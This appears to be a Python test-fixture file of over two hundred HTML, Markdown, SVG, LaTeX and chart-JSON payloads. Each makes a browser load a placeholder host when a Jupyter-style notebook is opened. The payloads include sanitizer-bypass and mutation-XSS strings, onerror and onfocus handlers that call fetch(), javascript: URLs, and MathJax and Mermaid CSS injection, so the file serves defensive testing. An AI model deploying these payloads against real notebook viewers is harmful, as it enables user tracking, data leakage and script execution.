# ruff: noqa: E501 - a case a line
"""What a browser may load when a notebook is merely opened, each in an output or a Markdown cell of its own.

`{h}` is a host that nobody has, `{n}` the case's own mark: it stands in every address.
"""

from __future__ import annotations

from typing import Any

URL = "http://{h}/{n}"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HTML = f"""
<img src="{URL}">
<img src='{URL}'>
<img src={URL}>
<IMG SRC="HTTP://{{h}}/{{n}}">
<img src="//{{h}}/{{n}}">
<img src="\\\\{{h}}\\{{n}}">
<img src="/\\{{h}}/{{n}}">
<img src="http:\\\\{{h}}/{{n}}">
<img src=" \t http://{{h}}/{{n}} ">
<img src="ht&#10;tp://{{h}}/{{n}}">
<img src="&#104;ttp&colon;//{{h}}/{{n}}">
<img src="&#1;http://{{h}}/{{n}}">
<img src="/{{n}}">
<img src="{{n}}.png">
<img src="../{{n}}.png">
<img src="/files/{{n}}.png">
<img src="/api/shutdown?{{n}}">
<img src="?{{n}}">
<img src="file:///{{n}}">
<img src="attachment:{{n}}">
<img srcset="{URL} 1x, {URL}b 2x">
<img src="data:image/png;base64,{PIXEL}" srcset="{URL}">
<img/src="{URL}">
<img src=x src="{URL}" onerror="fetch('{URL}')">
<image src="{URL}">
<picture><source srcset="{URL}"><img src="data:,"></picture>
<video src="{URL}" autoplay></video>
<video poster="{URL}"></video>
<video><source src="{URL}"></video>
<video><track default src="{URL}" kind="subtitles"></video>
<audio src="{URL}" autoplay></audio>
<audio><source src="{URL}"></audio>
<input type="image" src="{URL}">
<body background="{URL}">
<table background="{URL}"><tr><td>x</td></tr></table>
<table><tr><td background="{URL}">x</td></tr></table>
<link rel="stylesheet" href="{URL}">
<link rel="prefetch" href="{URL}">
<link rel="preload" as="image" href="{URL}">
<link rel="modulepreload" href="{URL}">
<link rel="icon" href="{URL}">
<link rel="preconnect" href="{URL}">
<link rel="dns-prefetch" href="{URL}">
<link rel="manifest" href="{URL}">
<style>@import "{URL}";</style>
<style>@import url({URL});</style>
<style>@\\69mport "{URL}";</style>
<div class="jp-Dialog nba-Card nba-Approval lm-Widget c{{n}}">x</div>
<style>.c{{n}} {{{{ background: url({URL}) }}}}</style><b class="c{{n}}">x</b>
<style>.c{{n}} {{{{ background: u\\72l({URL}) }}}}</style><b class="c{{n}}">x</b>
<style>.c{{n}} {{{{ background: URL( '{URL}' ) }}}}</style><b class="c{{n}}">x</b>
<style>.c{{n}} {{{{ background: image-set("{URL}" 1x) }}}}</style><b class="c{{n}}">x</b>
<style>.c{{n}} {{{{ --x: url({URL}); background: var(--x) }}}}</style><b class="c{{n}}">x</b>
<style>@font-face {{{{ font-family: f{{n}}; src: url({URL}) }}}} .c{{n}} {{{{ font-family: f{{n}} }}}}</style><b class="c{{n}}">x</b>
<style>.c{{n}}::before {{{{ content: url({URL}) }}}}</style><b class="c{{n}}">x</b>
<style>.c{{n}} {{{{ list-style: url({URL}) }}}}</style><ul><li class="c{{n}}">x</ul>
<style>@media all {{{{ .c{{n}} {{{{ background: url({URL}) }}}} }}}}</style><b class="c{{n}}">x</b>
<style>b {{{{ & .c{{n}} {{{{ background: url({URL}) }}}} }}}}</style><b><i class="c{{n}}">x</i></b>
<style>.jp-OutputArea, body {{{{ background: url({URL}) }}}}</style>
<b style="background: url({URL})">x</b>
<b style="background-image: url(&quot;{URL}&quot;)">x</b>
<b style="background: u&#92;72l({URL})">x</b>
<b style="background: image-set('{URL}' 1x)">x</b>
<b style="background: -webkit-image-set(url({URL}) 1x)">x</b>
<b style="background: -webkit-cross-fade(url({URL}), url({URL}), 50%)">x</b>
<b style="border-image: url({URL}) 1; border: 3px solid">x</b>
<b style="cursor: url({URL}), auto">x</b>
<b style="list-style-image: url({URL}); display: list-item">x</b>
<b style="mask-image: url({URL})">x</b>
<b style="-webkit-mask: url({URL}#m)">x</b>
<b style="filter: url({URL}#f)">x</b>
<b style="clip-path: url({URL}#c)">x</b>
<b style="shape-outside: url({URL}); float: left">x</b>
<b style="offset-path: url({URL}#c)">x</b>
<svg><image href="{URL}" width="9" height="9"/></svg>
<svg><image xlink:href="{URL}" width="9" height="9"/></svg>
<svg><use href="{URL}#a"/></svg>
<svg><use xlink:href="{URL}#a"/></svg>
<svg><filter id="f{{n}}"><feImage href="{URL}"/></filter><rect width="9" height="9" filter="url(#f{{n}})"/></svg>
<svg><rect width="9" height="9" fill="url({URL}#a)"/></svg>
<svg><rect width="9" height="9" mask="url({URL}#a)" marker-start="url({URL}#m)" clip-path="url({URL}#c)"/></svg>
<svg><rect width="9" height="9" style="fill: url({URL}#a); mask: url({URL}#b)"/></svg>
<svg><style>@import "{URL}"; rect {{{{ fill: url({URL}#a) }}}}</style><rect width="9" height="9"/></svg>
<svg><style>rect {{{{ cursor: u&#114l({URL}), auto }}}}</style><rect width="9" height="9"/></svg>
<svg><foreignObject width="9" height="9"><img src="{URL}"></foreignObject></svg>
<svg><image width="9" height="9"><animate attributeName="href" values="{URL}"/></image></svg>
<svg><image width="9" height="9"><set attributeName="href" to="{URL}"/></image></svg>
<svg><style><img src="{URL}"></style></svg>
<svg></p><style><g title="</style><img src={URL}>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={URL}&gt;"></math>
<math><mglyph src="{URL}"></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src={URL}>">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src={URL}>"></style></h1>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src={URL}>">
<table><td><svg><desc><table><style></table><img src={URL}></style>
<noembed><p title="</noembed><img src={URL}>"></noembed>
<p>$\\label{{{{x}}}}\\eqref{{{{x}}}} \\def\\z{{{{\\href}}}}\\z{{{{{URL}}}}}{{{{x}}}}$</p>
<math href="{URL}"><maction actiontype="statusline" xlink:href="{URL}">x</maction></math>
<iframe src="{URL}"></iframe>
<iframe srcdoc="&lt;img src='{URL}'&gt;"></iframe>
<frameset><frame src="{URL}"></frameset>
<object data="{URL}"></object>
<object data="{URL}" type="image/png"></object>
<object data="data:text/html,&lt;img src='{URL}'&gt;"></object>
<embed src="{URL}">
<applet code="x" archive="{URL}"></applet>
<portal src="{URL}"></portal>
<fencedframe src="{URL}"></fencedframe>
<model-viewer src="{URL}" poster="{URL}"></model-viewer>
<meta http-equiv="refresh" content="0; url={URL}">
<base href="{URL}/"><img src="x">
<template><img src="{URL}"></template>
<template shadowrootmode="open"><img src="{URL}"></template>
<noscript><img src="{URL}"></noscript>
<noscript><p title="</noscript><img src={URL}>">
<textarea></textarea><img src="{URL}">
<title></title><img src="{URL}">
<xmp></xmp><img src="{URL}">
<!-- --!><img src="{URL}"><!-- -->
<!--><img src="{URL}">-->
<![CDATA[<img src="{URL}">]]>
<?xml-stylesheet href="{URL}"?><img src="{URL}">
<p title="><img src='{URL}'>">x</p>
<p "="><img src="{URL}">">x</p>
<a href="x" title="<img src={URL}>">y</a>
<div><p <img src="{URL}">
<script src="{URL}"></script>
<script type="module">import "{URL}"</script>
<script type="speculationrules">{{{{"prefetch": [{{{{"source": "list", "urls": ["{URL}"]}}}}]}}}}</script>
<button autofocus onfocus="fetch('{URL}')">x</button>
<a id="a{{n}}" ping="{URL}" href="#x">x</a>
<form action="{URL}"><button autofocus>x</button></form>
<img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='{URL}'/></svg>">
<img src="data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='{URL}'/%3E%3C/svg%3E">
<img src="data:text/html,<img src='{URL}'>">
<img src="blob:{URL}">
<img src="javascript:fetch('{URL}')">
<img alt="$\\style{{{{background:url({URL})}}}}{{{{x}}}}$">
<p>$\\unicode[a;background:url({URL})]{{{{x41}}}}$</p>
<p>$\\uni<wbr>code[a;background:url({URL})]{{{{x41}}}}$</p>
<p>$\\uni<!-- -->code[a;background:url({URL})]{{{{x41}}}}$</p>
<p>$\\fcolorbox{{{{red;background:url({URL})}}}}{{{{white}}}}{{{{x}}}}$</p>
<selectedcontent></selectedcontent><select><button><selectedcontent></button><option><img src='{URL}'></option></select>
<math><mi//xlink:href='{URL}'><annotation-xml encoding='text/html'><img src='{URL}'></annotation-xml></math>
<svg><font color=x><img src='{URL}'></font></svg>
<style>@starting-style {{{{ b {{{{ background: url({URL}) }}}} }}}} @layer a {{{{ b {{{{ background: url({URL}) }}}} }}}}</style><b>x</b>
<style>b[title="}}}}"] {{{{ }}}} }}}} b {{{{ background: url({URL}) }}}}</style><b>x</b>
<svg><defs><symbol id='symbol'><image href='{URL}'/></symbol></defs><use href='#symbol'/></svg>
<svg><rect filter="url({URL}#x)" width="9" height="9"/></svg>
<p>$\\style{{{{background:url({URL})}}}}{{{{x}}}}$ \\(\\bbox[background:url({URL})]{{{{x}}}}\\) $\\includegraphics{{{{{URL}}}}}$</p>
"""

MARKDOWN = [
    f"![x]({URL})",
    f"![x](<{URL}>)",
    f"![x]( {URL} 'title')",
    f"![x][r{{n}}]\n\n[r{{n}}]: {URL}",
    f"![r{{n}}][]\n\n[r{{n}}]: {URL}",
    f"![r{{n}}]\n\n[r{{n}}]:\n  <{URL}> 'title'",
    f"![r{{n}}](data:image/bmp;base64,AA==)\n\n[r{{n}}]: {URL}",
    f"[![x]({URL})](https://example.invalid/)",
    f"![![x]({URL})]({URL}b)",
    f"- a\n  - ![x]({URL})\n\n> > ![x]({URL})",
    f"| a | b |\n|---|---|\n| ![x]({URL}) | <img src='{URL}'> |",
    f"# ![x]({URL})",
    "![x](//{h}/{n})",
    "![x](/files/{n}.png)",
    "![x]({n}.png)",
    "![x](attachment:{n})",
    "![x](HTTP://{h}/{n})",
    "![x](&#104;ttp://{h}/{n})",
    "![x](http&colon;//{h}/{n})",
    f"!\u200b[x]({URL}) !\x00[x]({URL}) !\r[x]({URL}) !\\[x]({URL}) \\![x]({URL}) &excl;[x]({URL}) !&lsqb;x]({URL})",
    f"<img src='{URL}'>",
    f"<div>\n\n<img src='{URL}'>\n\n</div>",
    f"text <img\nsrc='{URL}'> more",
    f"&lt;img src='{URL}'&gt;",
    f"<style>@import '{URL}';</style>",
    f"<iframe src='{URL}'></iframe>",
    f"<table background='{URL}'><tr><td>x</td></tr></table>",
    f"`` ` `` ![x]({URL}) `<img src='{URL}'>`",
    f"`a\n![x]({URL})\nb`",
    f"```\ncode\n``` ![x]({URL})\n",
    f"```\n\n![x]({URL})",
    f"~~~ a\n```\n~~~\n![x]({URL})\n```",
    f"    ```\n![x]({URL})\n    ```\n<img src='{URL}'>",
    f"- ```\n![x]({URL})\n```",
    f"\\`![x]({URL})\\`",
    f"$![x]({URL})$ $$<img src='{URL}'>$$",
    f'[x](http://h/$" style="background:url({URL})$)',
    f"$\\style{{{{background:url({URL})}}}}{{{{x}}}}$",
    f"$$\\bbox[background:url({URL})]{{{{x}}}}$$",
    f"$\\includegraphics{{{{{URL}}}}}$ $\\href{{{{{URL}}}}}{{{{x}}}}$ $\\require{{{{x}}}}$",
    f'```mermaid\ngraph TD\n  A@{{{{ img: "{URL}", label: "x" }}}}\n```',
    f'```mermaid\n%%{{{{init: {{{{"themeCSS": "* {{{{ background: url({URL}) }}}}"}}}}}}}}%%\ngraph TD\n A-->B\n```',
    f'```\u00a0mermaid\ngraph TD\n  A@{{{{ img: "{URL}", label: "x" }}}}\n```',
    f'~~~\u2003mermaid\ngraph TD\n  A@{{{{ img: "{URL}", label: "x" }}}}\n~~~',
    f'```\ufeffmermaid\ngraph TD\n  A@{{{{ img: "{URL}", label: "x" }}}}\n```',
    f'```\u2028 mermaid\ngraph TD\n  A@{{{{ img: "{URL}", label: "x" }}}}\n```',
    f'> ```\u3000mermaid\n> graph TD\n>   A@{{{{ img: "{URL}", label: "x" }}}}\n> ```',
    f"\\$&#92;unicode[a;background:url({URL})]{{{{x41}}}}\\$",
    f"&#36;&#92;unicode[a;background:url({URL})]{{{{x41}}}}&#36;",
    f"\\$\\\\&#117;nicode[a;background:url({URL})]{{{{x41}}}}\\$",
    f"&dollar;&bsol;unicode[a;background:url({URL})]{{{{x41}}}}&dollar;",
    f'[x](http://x.invalid/ "@@0@@") $" style="background-image:url({URL})" x="$',
    f"```{{{{image}}}} {URL}\n```",
    f":::{{{{image}}}} {URL}\n:::",
    f"<{URL}> {URL} www.{{h}} x@{{h}}",
    f"<https://{{h}}/{{n}}\" onerror=x><img src='{URL}'>",
]

SVG = [
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{URL}' width='9' height='9'/></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><style>@import '{URL}';</style><rect width='9' height='9'/></svg>",
    f"<?xml-stylesheet href='{URL}'?><svg xmlns='http://www.w3.org/2000/svg'><script href='{URL}'/></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'/><img src='{URL}'>",
    f"<svg xmlns='http://www.w3.org/2000/svg'></svg><p style='background:url({URL})'>x</p>",
    f"<img src='{URL}'>",
]

LATEX = [
    f"$\\style{{{{background:url({URL})}}}}{{{{x}}}}$",
    f"<img src='{URL}'>",
    f"$\\includegraphics{{{{{URL}}}}}$",
    f'$\\mmlToken{{{{mi}}}}[href="{URL}" style="background:url({URL})" class="jp-Dialog"]{{{{x}}}}$',
]

JSON: list[tuple[str, Any]] = [
    (
        "application/vnd.vegalite.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": URL},
            "mark": "point",
            "encoding": {},
        },
    ),
    (
        "application/vnd.vegalite.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"values": [{"u": URL, "x": 1, "y": 1}]},
            "mark": {"type": "image", "width": 9, "height": 9},
            "encoding": {
                "x": {"field": "x", "type": "quantitative"},
                "y": {"field": "y", "type": "quantitative"},
                "url": {"field": "u", "type": "nominal"},
            },
        },
    ),
    (
        "application/vnd.vega.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "width": 9,
            "height": 9,
            "data": [{"name": "t", "url": URL, "format": {"type": "json"}}],
            "marks": [{"type": "image", "encode": {"enter": {"url": {"value": URL}, "width": {"value": 9}}}}],
        },
    ),
    (
        "application/vnd.vegalite.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "usermeta": {"embedOptions": {"patch": URL, "config": URL}},
            "data": {"values": [{"x": 1}]},
            "mark": "point",
            "encoding": {"x": {"field": "x", "type": "quantitative"}},
        },
    ),
    (
        # An input that a chart binds takes any attribute.
        "application/vnd.vegalite.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "params": [{"name": "p", "bind": {"input": "text", "autofocus": "", "onfocus": f"fetch('{URL}')"}}],
            "data": {"values": [{"x": 1}]},
            "mark": "point",
            "encoding": {"x": {"field": "x", "type": "quantitative"}},
        },
    ),
    (
        # Nothing in it is an address before it is drawn.
        "application/vnd.vega.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "width": 9,
            "height": 9,
            "signals": [{"name": "cursor", "update": "'u' + 'rl(ht' + 'tp:/' + '/{h}/' + '{n}), auto'"}],
        },
    ),
    ("application/vnd.plotly.v1+json", {"data": [{"type": "scattermap", "lat": [1], "lon": [2]}], "layout": {}}),
    (
        "application/vnd.plotly.v1+json",
        {
            "data": [],
            "layout": {
                "updatemenus": [
                    {"buttons": [{"method": "relayout", "args": [{"images[0].source": "x{h}{n}"}]}]},
                ]
            },
        },
    ),
    *(
        (
            "application/vnd.plotly.v1+json",
            {"data": [], "layout": {"updatemenus": [{"buttons": [{"method": "update", "args": args}]}]}},
        )
        for args in (["images[0].source", "x{h}{n}"], ["type", "scattergeo"])
    ),
    (
        "application/vnd.plotly.v1+json",
        {"data": [], "layout": {"images": [{"source": URL, "x": 0, "y": 0, "sizex": 1, "sizey": 1}]}},
    ),
    (
        "application/vnd.plotly.v1+json",
        {
            "data": [{"type": "scatter", "text": ["<b style='mask:&#117;rl(http:&#47;&#47;{h}/{n})'>x</b>"]}],
            "layout": {},
        },
    ),
    (
        "application/vnd.plotly.v1+json",
        {
            "data": [{"type": "scattermapbox", "lat": [1], "lon": [1]}, {"type": "choropleth", "geojson": URL}],
            "layout": {"mapbox": {"style": URL}, "annotations": [{"text": f"<a href='{URL}'>x</a>"}]},
            "config": {"topojsonURL": URL, "plotlyServerURL": URL, "showSendToCloud": True},
        },
    ),
    ("application/vnd.jupyter.widget-view+json", {"model_id": URL, "version_major": 2, "version_minor": 0}),
    ("application/geo+json", {"type": "Point", "coordinates": [1, 2], "name": URL}),
    ("application/javascript", f"fetch('{URL}')"),
    ("text/vnd.mermaid", f'graph TD\n  A@{{{{ img: "{URL}", label: "x" }}}}'),
    ("application/vnd.bokehjs_exec.v0+json", {"server_id": URL}),
    ("image/png", f"{PIXEL}\"><img src='{URL}"),
    ("application/pdf", URL),
    ("text/vnd.graphviz", f'digraph {{{{ a [image="{URL}"] }}}}'),
]


def fill(value: Any, **marks: str) -> Any:
    """The case with its host and its mark."""
    if isinstance(value, str):
        return value.format(**marks)
    if isinstance(value, list):
        return [fill(each, **marks) for each in value]
    if isinstance(value, dict):
        return {key: fill(each, **marks) if key != "$schema" else each for key, each in value.items()}
    return value


def bundles() -> list[dict[str, Any]]:
    """All MIME bundles, each with an unfilled source."""
    pages = [{"text/html": line} for line in HTML.strip().split("\n")]
    texts = [{"text/markdown": text} for text in MARKDOWN]
    drawings = [{"image/svg+xml": text} for text in SVG]
    formulas = [{"text/latex": text} for text in LATEX]
    return [*pages, *texts, *drawings, *formulas, *({mime: value} for mime, value in JSON)]
